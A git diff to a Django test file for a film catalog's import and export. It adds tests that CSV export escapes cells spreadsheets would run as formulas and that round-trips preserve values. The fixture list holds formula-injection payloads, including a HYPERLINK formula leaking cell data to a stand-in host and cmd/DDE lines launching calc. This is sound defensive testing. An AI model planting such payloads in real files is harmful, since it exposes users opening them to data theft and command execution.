@@ -1,13 +1,23 @@
 """Catalog import and export: JSON and CSV, reports, idempotent re-imports."""
 
+import csv
 import json
 from pathlib import Path
 
 import pytest
 from django.core.management import CommandError, call_command
 
-from afterword.catalog.importing import FileError, import_file
-from afterword.catalog.models import Credit, Person, Release, Work, WorkRelation
+from afterword.catalog.importing import KINDS, FileError, import_file
+from afterword.catalog.models import (
+    Credit,
+    Organisation,
+    Person,
+    Release,
+    Role,
+    Work,
+    WorkRelation,
+)
+from afterword.catalog.roles import seed_roles
 
 SAMPLES = Path(__file__).parent / "samples"
 
@@ -186,3 +196,141 @@ def test_csv_export_writes_a_file_per_kind_that_imports_back(catalog, tmp_path):
     report = import_file(tmp_path / "works.csv")
     assert [r.key for r in report.results if r.status == "updated"] == ["akira-1988"]
     assert Work.objects.get(slug="akira-1988").runtime == 124
+
+
+# Text a spreadsheet would run as a formula, and text that only looks close.
+FORMULAS = [
+    '=HYPERLINK("https://evil.example.test/?leak="&A1,"Click me")',
+    "+44 20 7946 0000",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "'=already quoted once",
+    "''+twice",
+]
+HARMLESS = ["'Round Midnight", "Perfect Blue", "A-side", "ends with ="]
+# What makes a spreadsheet read a cell as a formula.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def hostile_catalog():
+    """A catalog whose text fields start with what a spreadsheet would run."""
+    seed_roles(Role)
+    org = Organisation.objects.create(
+        name=FORMULAS[0], slug="evil-studio", description=FORMULAS[1]
+    )
+    person = Person.objects.create(
+        name=FORMULAS[2],
+        slug="evil-person",
+        native_name=FORMULAS[3],
+        alternative_names="\n".join(FORMULAS[4:] + HARMLESS),
+        bio=FORMULAS[0],
+    )
+    works = [
+        Work.objects.create(
+            title=title,
+            slug=f"work-{n}",
+            original_title=FORMULAS[(n + 1) % len(FORMULAS)],
+            alternative_titles="\n".join(FORMULAS),
+            synopsis=title,
+            country=FORMULAS[3],
+            year=1995,
+        )
+        for n, title in enumerate(FORMULAS + HARMLESS)
+    ]
+    Credit.objects.create(
+        work=works[0],
+        person=person,
+        role=Role.objects.get(slug="voice"),
+        character_name=FORMULAS[1],
+    )
+    Release.objects.create(
+        work=works[0],
+        format=Release.Format.BLURAY,
+        region=FORMULAS[2],
+        edition=FORMULAS[3],
+        distributor=org,
+        aspect_ratio=FORMULAS[4],
+        audio_languages=FORMULAS[5],
+        notes=FORMULAS[0],
+    )
+    WorkRelation.objects.create(
+        source=works[0],
+        target=works[1],
+        kind=WorkRelation.Kind.REMAKE_OF,
+        note=FORMULAS[2],
+    )
+
+
+TEXT_FIELDS = {
+    Organisation: ["name", "kind", "native_name", "description", "website"],
+    Person: ["name", "native_name", "alternative_names", "bio", "links"],
+    Work: ["title", "original_title", "alternative_titles", "country", "synopsis"],
+    Credit: ["character_name"],
+    Release: ["region", "edition", "aspect_ratio", "audio_languages", "notes"],
+    WorkRelation: ["note"],
+}
+
+
+def catalog_text() -> dict[str, list[tuple]]:
+    return {
+        model.__name__: sorted(model.objects.values_list(*fields))
+        for model, fields in TEXT_FIELDS.items()
+    }
+
+
+def test_csv_export_cells_never_start_a_formula(db, tmp_path):
+    hostile_catalog()
+
+    call_command("export_catalog", "--format", "csv", "--output", str(tmp_path))
+
+    cells = [
+        (path.name, cell)
+        for path in sorted(tmp_path.glob("*.csv"))
+        for row in csv.reader(path.open(encoding="utf-8", newline=""))
+        for cell in row
+    ]
+    runnable = [(name, c) for name, c in cells if c.startswith(FORMULA_STARTS)]
+    assert runnable == []
+    # One apostrophe more than the value had, whatever it had.
+    assert ("works.csv", "'" + FORMULAS[0]) in cells
+    assert ("works.csv", "''=already quoted once") in cells
+    assert ("works.csv", "'''+twice") in cells
+    # Text that no spreadsheet runs is written as it is.
+    assert ("works.csv", "Perfect Blue") in cells
+    assert ("works.csv", "'Round Midnight") in cells
+
+
+def test_csv_export_imports_back_to_the_same_values(db, tmp_path):
+    hostile_catalog()
+    before = catalog_text()
+    call_command("export_catalog", "--format", "csv", "--output", str(tmp_path))
+    for model in (WorkRelation, Release, Credit, Work, Person, Organisation):
+        model.objects.all().delete()
+
+    for kind in KINDS:
+        call_command("import_catalog", str(tmp_path / f"{kind}.csv"))
+
+    assert catalog_text() == before
+    again = [import_file(tmp_path / f"{kind}.csv") for kind in KINDS]
+    assert {r.status for report in again for r in report.results} == {"unchanged"}
+
+
+def test_a_number_in_another_script_is_refused_on_import(db, tmp_path):
+    path = tmp_path / "works.csv"
+    path.write_text(
+        "slug,title,year,runtime\n"
+        "memories-1995,Memories,١٩٩٥,\n"
+        "paprika-2006,Paprika,2006,９０\n"
+        "akira-1988,Akira,1988,124\n",
+        encoding="utf-8",
+    )
+
+    report = import_file(path)
+
+    assert [r.reason for r in report.rejected] == [
+        "year must be a whole number, not “١٩٩٥”.",
+        "runtime must be a whole number, not “９０”.",
+    ]
+    assert list(Work.objects.values_list("slug", "year", "runtime")) == [
+        ("akira-1988", 1988, 124)
+    ]
